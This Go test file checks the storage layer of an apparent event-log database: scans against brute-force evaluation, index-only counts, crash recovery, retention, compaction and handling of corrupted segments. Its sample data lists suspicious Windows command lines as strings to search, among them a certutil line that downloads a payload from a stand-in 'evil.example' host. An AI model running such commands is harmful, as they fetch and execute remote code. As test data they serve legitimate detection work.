package storage

import (
	"context"
	"fmt"
	"math"
	"math/rand"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/spoorhq/spoor/schema"
	"github.com/spoorhq/spoor/types"
	"github.com/spoorhq/spoor/vector"
)

var testNow = time.Date(2024, 2, 1, 0, 0, 0, 0, time.UTC)

func eventsTable() *schema.Table {
	return &schema.Table{Name: "Events", TimeColumn: "Timestamp", Columns: []schema.Column{
		{Name: "Timestamp", Type: types.Datetime},
		{Name: "DeviceName", Type: types.String},
		{Name: "CommandLine", Type: types.String},
		{Name: "Port", Type: types.Long},
		{Name: "Score", Type: types.Real},
		{Name: "Extra", Type: types.Dynamic},
		{Name: "Seq", Type: types.Long},
	}}
}

var commandLines = []string{
	"powershell.exe -enc SQBFAFgA", "cmd.exe /c whoami", "C:\\Windows\\System32\\svchost.exe -k netsvcs",
	"rundll32.exe shell32.dll,Control_RunDLL", "certutil -urlcache -f http://evil.example/payload.exe",
	"notepad.exe C:\\Users\\alice\\notes.txt", "", "ab", "mshta.exe javascript:alert(1)",
}

// makeRows builds n rows whose Seq column runs from first; times spread over the
// seven days before testNow.
func makeRows(rng *rand.Rand, first, n int) []*vector.Vector {
	def := eventsTable()
	cols := make([]*vector.Vector, len(def.Columns))
	for i, c := range def.Columns {
		cols[i] = vector.New(c.Type, n)
	}
	base := types.TimeToTicks(testNow.Add(-7 * 24 * time.Hour))
	for i := 0; i < n; i++ {
		cols[0].Append(types.NewDatetime(base + rng.Int63n(7*types.TicksPerDay)))
		cols[1].Append(types.NewString(fmt.Sprintf("ws-%02d", rng.Intn(20))))
		cl := commandLines[rng.Intn(len(commandLines))]
		if rng.Intn(50) == 0 {
			cl += fmt.Sprintf(" rareterm%d", rng.Intn(3))
		}
		cols[2].Append(types.NewString(cl))
		if rng.Intn(10) == 0 {
			cols[3].Append(types.NullOf(types.Long))
		} else {
			cols[3].Append(types.NewLong(int64(rng.Intn(65536))))
		}
		cols[4].Append(types.NewReal(rng.Float64()))
		if rng.Intn(3) == 0 {
			cols[5].Append(types.NullOf(types.Dynamic))
		} else {
			cols[5].Append(types.NewDynamic(map[string]any{"k": fmt.Sprintf("v%d", rng.Intn(5))}))
		}
		cols[6].Append(types.NewLong(int64(first + i)))
	}
	return cols
}

func openTest(t testing.TB, dir string, opts Options) *Store {
	t.Helper()
	opts.Now = func() time.Time { return testNow }
	s, err := Open(dir, opts)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// collect scans and returns the Seq values of the matching rows, sorted.
func collect(t testing.TB, s *Store, req ScanRequest) []int64 {
	t.Helper()
	req.Columns = []string{"Seq"}
	var out []int64
	ch := make(chan []int64, 64)
	done := make(chan struct{})
	go func() {
		for part := range ch {
			out = append(out, part...)
		}
		close(done)
	}()
	_, err := s.Scan(context.Background(), req, func(b *vector.Batch) error {
		ch <- append([]int64(nil), b.Cols[0].Ints[:b.Len]...)
		return nil
	})
	close(ch)
	<-done
	if err != nil {
		t.Fatal(err)
	}
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out
}

// bruteForce evaluates a request over all rows directly.
func bruteForce(cols []*vector.Vector, n int, req ScanRequest) []int64 {
	def := eventsTable()
	var out []int64
	for r := 0; r < n; r++ {
		ts := cols[0].Ints[r]
		if req.MinTime != 0 && ts < req.MinTime || req.MaxTime != 0 && ts > req.MaxTime {
			continue
		}
		ok := true
		for _, p := range req.Preds {
			if !matchValue(p, cols[def.Index(p.Column)], r) {
				ok = false
			}
		}
		if ok {
			out = append(out, cols[6].Ints[r])
		}
	}
	return out
}

func concat(parts ...[]*vector.Vector) []*vector.Vector {
	out := make([]*vector.Vector, len(parts[0]))
	for ci := range out {
		v := vector.New(parts[0][ci].Type, 0)
		for _, p := range parts {
			for r := 0; r < p[ci].Len; r++ {
				v.Append(p[ci].Value(r))
			}
		}
		out[ci] = v
	}
	return out
}

var testRequests = []ScanRequest{
	{},
	{Preds: []Pred{{Column: "CommandLine", Op: HasTerm, Values: []string{"powershell"}}}},
	{Preds: []Pred{{Column: "CommandLine", Op: HasTerm, Values: []string{"RARETERM1"}}}},
	{Preds: []Pred{{Column: "CommandLine", Op: HasTerm, Values: []string{"ab"}}}},
	{Preds: []Pred{{Column: "CommandLine", Op: HasTerm, Values: []string{"nosuchterm"}}}},
	{Preds: []Pred{{Column: "CommandLine", Op: TermPrefix, Values: []string{"syst"}}}},
	{Preds: []Pred{{Column: "CommandLine", Op: Equals, Values: []string{"cmd.exe /c whoami"}}}},
	{Preds: []Pred{{Column: "CommandLine", Op: Equals, Values: []string{"CMD.EXE /C WHOAMI"}, CaseInsensitive: true}}},
	{Preds: []Pred{{Column: "CommandLine", Op: Equals, Values: []string{""}}}},
	{Preds: []Pred{{Column: "DeviceName", Op: Equals, Values: []string{"ws-03", "ws-07", "nope"}}}},
	{Preds: []Pred{{Column: "DeviceName", Op: Equals, Values: []string{"WS-03"}, CaseInsensitive: true}}},
	{Preds: []Pred{{Column: "DeviceName", Op: HasTerm, Values: []string{"ws"}}}},
	{Preds: []Pred{{Column: "Extra", Op: HasTerm, Values: []string{"v3"}}}},
	{Preds: []Pred{
		{Column: "DeviceName", Op: Equals, Values: []string{"ws-01", "ws-02", "ws-03", "ws-04"}},
		{Column: "CommandLine", Op: HasTerm, Values: []string{"exe"}},
	}},
	{MinTime: types.TimeToTicks(testNow.Add(-36 * time.Hour)), MaxTime: types.TimeToTicks(testNow.Add(-12 * time.Hour))},
	{MinTime: types.TimeToTicks(testNow.Add(-3 * 24 * time.Hour)),
		Preds: []Pred{{Column: "CommandLine", Op: HasTerm, Values: []string{"certutil"}}}},
	{MinTime: types.TimeToTicks(testNow.Add(100 * time.Hour))},
	// Integer predicates: on a column with nulls, and on the time column,
	// where sealed blocks' zone maps skip most blocks.
	{Preds: []Pred{{Column: "Port", Op: IntRange, Lo: 443, Hi: 443}}},
	{Preds: []Pred{{Column: "Port", Op: IntIn, Ints: []int64{22, 3389, 70000}}}},
	{Preds: []Pred{{Column: "Port", Op: IntRange, Lo: 100, Hi: 200}, {Column: "CommandLine", Op: HasTerm, Values: []string{"powershell"}}}},
	{Preds: []Pred{{Column: "Port", Op: IntRange, Lo: 65000, Hi: math.MaxInt64}, {Column: "DeviceName", Op: Equals, Values: []string{"ws-03"}}}},
	{Preds: []Pred{{Column: "Port", Op: IntRange, Lo: 70000, Hi: math.MaxInt64}}},
	{Preds: []Pred{{Column: "Timestamp", Op: IntRange,
		Lo: types.TimeToTicks(testNow.Add(-50 * time.Hour)), Hi: types.TimeToTicks(testNow.Add(-26 * time.Hour))}}},
}

// TestScanMatchesBruteForce checks every request on hot rows, on sealed
// segments, and on a mix, against a direct evaluation: indexes and pruning must
// never change an answer.
func TestScanMatchesBruteForce(t *testing.T) {
	rng := rand.New(rand.NewSource(1))
	a := makeRows(rng, 0, 150_000)
	b := makeRows(rng, 150_000, 30_000)
	all := concat(a, b)
	s := openTest(t, t.TempDir(), Options{SegmentRows: 100_000})
	defer s.Close()
	if err := s.CreateTable(eventsTable()); err != nil {
		t.Fatal(err)
	}
	check := func(stage string, n int) {
		for i, req := range testRequests {
			want := bruteForce(all, n, req)
			got := collect(t, s, req)
			if fmt.Sprint(got) != fmt.Sprint(want) {
				t.Fatalf("%s: request %d (%v): got %d rows, want %d", stage, i, req.Preds, len(got), len(want))
			}
			cnt, _, err := s.Count(context.Background(), req)
			if err != nil || cnt != int64(len(want)) {
				t.Fatalf("%s: request %d: count %d (%v), want %d", stage, i, cnt, err, len(want))
			}
		}
	}
	if err := s.Append("Events", a, 150_000); err != nil {
		t.Fatal(err)
	}
	check("hot", 150_000)
	if err := s.Seal("Events"); err != nil {
		t.Fatal(err)
	}
	if s.HotRows("Events") != 0 {
		t.Fatalf("hot rows after seal: %d", s.HotRows("Events"))
	}
	check("sealed", 150_000)
	if err := s.Append("Events", b, 30_000); err != nil {
		t.Fatal(err)
	}
	check("sealed+hot", 180_000)
	if err := s.Seal("Events"); err != nil {
		t.Fatal(err)
	}
	check("sealed twice", 180_000)
}

// TestIndexOnlyCount checks that a has-term count reads no column block.
func TestIndexOnlyCount(t *testing.T) {
	rng := rand.New(rand.NewSource(2))
	rows := makeRows(rng, 0, 50_000)
	s := openTest(t, t.TempDir(), Options{})
	defer s.Close()
	s.CreateTable(eventsTable())
	if err := s.Append("Events", rows, 50_000); err != nil {
		t.Fatal(err)
	}
	if err := s.Seal("Events"); err != nil {
		t.Fatal(err)
	}
	req := ScanRequest{Table: "Events", Preds: []Pred{{Column: "CommandLine", Op: HasTerm, Values: []string{"rareterm2"}}}}
	n, st, err := s.Count(context.Background(), req)
	if err != nil {
		t.Fatal(err)
	}
	if want := len(bruteForce(rows, 50_000, req)); n != int64(want) || want == 0 {
		t.Fatalf("count %d, want %d", n, want)
	}
	if st.BlocksRead != 0 || !st.IndexOnly {
		t.Fatalf("count read %d blocks (index only: %v), want none", st.BlocksRead, st.IndexOnly)
	}
}

func init() {
	for i := range testRequests {
		testRequests[i].Table = "Events"
	}
}

// TestReopen checks that hot and sealed rows survive a close and open, once each.
func TestReopen(t *testing.T) {
	dir := t.TempDir()
	rng := rand.New(rand.NewSource(3))
	a, b := makeRows(rng, 0, 20_000), makeRows(rng, 20_000, 5_000)
	s := openTest(t, dir, Options{})
	s.CreateTable(eventsTable())
	if err := s.Append("Events", a, 20_000); err != nil {
		t.Fatal(err)
	}
	if err := s.Seal("Events"); err != nil {
		t.Fatal(err)
	}
	if err := s.Append("Events", b, 5_000); err != nil {
		t.Fatal(err)
	}
	s.Close()
	s = openTest(t, dir, Options{})
	defer s.Close()
	got := collect(t, s, ScanRequest{Table: "Events"})
	if len(got) != 25_000 {
		t.Fatalf("after reopen: %d rows, want 25000", len(got))
	}
	for i, v := range got {
		if v != int64(i) {
			t.Fatalf("row %d has Seq %d", i, v)
		}
	}
}

// TestCrashBeforeManifest simulates a crash after segment files were written
// but before the manifest transaction: the files are orphans and the rows stay hot.
func TestCrashBeforeManifest(t *testing.T) {
	dir := t.TempDir()
	rng := rand.New(rand.NewSource(4))
	rows := makeRows(rng, 0, 10_000)
	s := openTest(t, dir, Options{})
	s.CreateTable(eventsTable())
	if err := s.Append("Events", rows, 10_000); err != nil {
		t.Fatal(err)
	}
	def := s.Table("Events")
	if _, err := s.writeSegments(def, newRowSet([][]*vector.Vector{rows}, []int{10_000}), "crash", true); err != nil {
		t.Fatal(err)
	}
	s.Close()
	s = openTest(t, dir, Options{})
	defer s.Close()
	if got := collect(t, s, ScanRequest{Table: "Events"}); len(got) != 10_000 {
		t.Fatalf("%d rows, want 10000", len(got))
	}
	var left []string
	filepath.WalkDir(filepath.Join(dir, "segments"), func(p string, d os.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			left = append(left, p)
		}
		return nil
	})
	if len(left) != 0 {
		t.Fatalf("orphan segment files were not removed: %v", left)
	}
}

// TestRetention drops segments older than the window.
func TestRetention(t *testing.T) {
	dir := t.TempDir()
	rng := rand.New(rand.NewSource(5))
	rows := makeRows(rng, 0, 10_000)
	s := openTest(t, dir, Options{Retention: 3 * 24 * time.Hour})
	defer s.Close()
	s.CreateTable(eventsTable())
	s.Append("Events", rows, 10_000)
	if err := s.Seal("Events"); err != nil {
		t.Fatal(err)
	}
	if err := s.ApplyRetention(); err != nil {
		t.Fatal(err)
	}
	cutoff := s.RetentionCutoff()
	for _, seq := range collect(t, s, ScanRequest{Table: "Events"}) {
		_ = seq
	}
	s.mu.RLock()
	for _, si := range s.tables["Events"].segments {
		if si.MaxTime < cutoff {
			t.Errorf("segment %s (max %s) outlived the cutoff", si.ID, types.TicksToTime(si.MaxTime))
		}
	}
	n := len(s.tables["Events"].segments)
	s.mu.RUnlock()
	if n == 0 || n >= 8 {
		t.Fatalf("%d segments left, want the last few days only", n)
	}
}

// TestCorruptSegment flips bytes in a sealed segment: scans must fail with an
// error naming the segment, never panic or return rows silently wrong.
func TestCorruptSegment(t *testing.T) {
	dir := t.TempDir()
	rng := rand.New(rand.NewSource(6))
	rows := makeRows(rng, 0, 5_000)
	s := openTest(t, dir, Options{})
	s.CreateTable(eventsTable())
	s.Append("Events", rows, 5_000)
	if err := s.Seal("Events"); err != nil {
		t.Fatal(err)
	}
	s.Close()
	var segs []string
	filepath.WalkDir(filepath.Join(dir, "segments"), func(p string, d os.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			segs = append(segs, p)
		}
		return nil
	})
	target := segs[0]
	orig, _ := os.ReadFile(target)
	for trial := 0; trial < 200; trial++ {
		data := append([]byte(nil), orig...)
		pos := rng.Intn(len(data))
		data[pos] ^= byte(1 + rng.Intn(255))
		os.WriteFile(target, data, 0o644)
		s := openTest(t, dir, Options{})
		want := bruteForce(rows, 5_000, ScanRequest{})
		req := ScanRequest{Table: "Events", Columns: nil}
		var got atomic.Int64 // fn is called from several goroutines
		_, err := s.Scan(context.Background(), req, func(b *vector.Batch) error { got.Add(int64(b.Len)); return nil })
		if err == nil && int(got.Load()) != len(want) {
			t.Fatalf("flip at %d: scan returned %d rows without an error, want %d", pos, got.Load(), len(want))
		}
		if err != nil && !strings.Contains(err.Error(), filepath.Base(target)) {
			t.Fatalf("flip at %d: error does not name the segment: %v", pos, err)
		}
		s.Close()
	}
	os.WriteFile(target, orig, 0o644)
}

// TestCompaction merges the small segments that repeated seals leave, without
// changing any answer, and keeps the result across a reopen.
func TestCompaction(t *testing.T) {
	dir := t.TempDir()
	rng := rand.New(rand.NewSource(7))
	s := openTest(t, dir, Options{})
	s.CreateTable(eventsTable())
	var parts [][]*vector.Vector
	for i := 0; i < 6; i++ {
		p := makeRows(rng, i*3000, 3000)
		parts = append(parts, p)
		if err := s.Append("Events", p, 3000); err != nil {
			t.Fatal(err)
		}
		if err := s.Seal("Events"); err != nil {
			t.Fatal(err)
		}
	}
	all := concat(parts...)
	count := func() int {
		s.mu.RLock()
		defer s.mu.RUnlock()
		return len(s.tables["Events"].segments)
	}
	before := count()
	merged, err := s.Compact("Events")
	if err != nil {
		t.Fatal(err)
	}
	if after := count(); merged == 0 || after != before-merged || after > 8 {
		t.Fatalf("compaction: %d segments before, %d merged away, %d after", before, merged, after)
	}
	for i, req := range testRequests {
		if got, want := collect(t, s, req), bruteForce(all, 18_000, req); fmt.Sprint(got) != fmt.Sprint(want) {
			t.Fatalf("request %d after compaction: %d rows, want %d", i, len(got), len(want))
		}
	}
	s.Close()
	s = openTest(t, dir, Options{})
	defer s.Close()
	if got := collect(t, s, ScanRequest{Table: "Events"}); len(got) != 18_000 {
		t.Fatalf("after reopen: %d rows, want 18000", len(got))
	}
	files := 0
	filepath.WalkDir(filepath.Join(dir, "segments"), func(p string, d os.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			files++
		}
		return nil
	})
	if files != count() {
		t.Fatalf("%d segment files for %d segments: retired files were not removed", files, count())
	}
}

// TestSealByAge: rows that stay hot past SealAge ask to be sealed.
func TestSealByAge(t *testing.T) {
	clock := testNow
	s, err := Open(t.TempDir(), Options{Now: func() time.Time { return clock }, SealAge: time.Minute})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	s.CreateTable(eventsTable())
	s.Append("Events", makeRows(rand.New(rand.NewSource(8)), 0, 10), 10)
	if s.NeedsSeal("Events") {
		t.Fatal("fresh rows already need sealing")
	}
	clock = clock.Add(2 * time.Minute)
	if !s.NeedsSeal("Events") {
		t.Fatal("rows older than SealAge do not ask to be sealed")
	}
}

// TestCorruptMetadata flips bytes in the badger files that hold the manifest
// and the hot rows: opening must fail with an error or succeed, and a store
// that opens must answer with the true rows or an error, never panic or lie.
func TestCorruptMetadata(t *testing.T) {
	base := t.TempDir()
	rng := rand.New(rand.NewSource(10))
	a, b := makeRows(rng, 0, 3_000), makeRows(rng, 3_000, 2_000)
	s := openTest(t, base, Options{})
	s.CreateTable(eventsTable())
	s.Append("Events", a, 3_000)
	s.Seal("Events")
	s.Append("Events", b, 2_000) // stays hot
	s.Close()
	var files []string
	filepath.WalkDir(filepath.Join(base, "badger"), func(p string, d os.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			files = append(files, p)
		}
		return nil
	})
	if len(files) == 0 {
		t.Fatal("no badger files")
	}
	want := fmt.Sprint(bruteForce(concat(a, b), 5_000, ScanRequest{}))
	// The check before opening must leave an intact store intact, twice over.
	for i := 0; i < 2; i++ {
		s := openTest(t, base, Options{})
		if got := collect(t, s, ScanRequest{Table: "Events"}); fmt.Sprint(got) != want {
			t.Fatalf("intact store, open %d: %d rows, want 5000", i+1, len(got))
		}
		s.Close()
	}
	opened := 0
	defer func() { t.Logf("%d of 40 damaged stores opened and answered correctly; the rest refused", opened) }()
	for trial := 0; trial < 40; trial++ {
		dir := filepath.Join(t.TempDir(), "store")
		if err := os.CopyFS(dir, os.DirFS(base)); err != nil {
			t.Fatal(err)
		}
		rel, _ := filepath.Rel(base, files[trial%len(files)])
		target := filepath.Join(dir, rel)
		data, _ := os.ReadFile(target)
		if len(data) == 0 {
			continue
		}
		pos := rng.Intn(len(data))
		data[pos] ^= byte(1 + rng.Intn(255))
		os.WriteFile(target, data, 0o644)
		func() {
			defer func() {
				if r := recover(); r != nil {
					t.Fatalf("flip in %s at %d: panic: %v", rel, pos, r)
				}
			}()
			s, err := Open(dir, Options{Now: func() time.Time { return testNow }})
			if err != nil {
				return // a clear refusal
			}
			defer s.Close()
			var got []int64
			req := ScanRequest{Table: "Events", Columns: []string{"Seq"}}
			var mu sync.Mutex
			_, err = s.Scan(context.Background(), req, func(bt *vector.Batch) error {
				mu.Lock()
				got = append(got, bt.Cols[0].Ints[:bt.Len]...)
				mu.Unlock()
				return nil
			})
			if err != nil {
				return
			}
			sort.Slice(got, func(i, j int) bool { return got[i] < got[j] })
			if fmt.Sprint(got) != want {
				t.Fatalf("flip in %s at %d: the store opened and returned %d rows without an error, want 5000", rel, pos, len(got))
			}
			opened++
		}()
	}
}
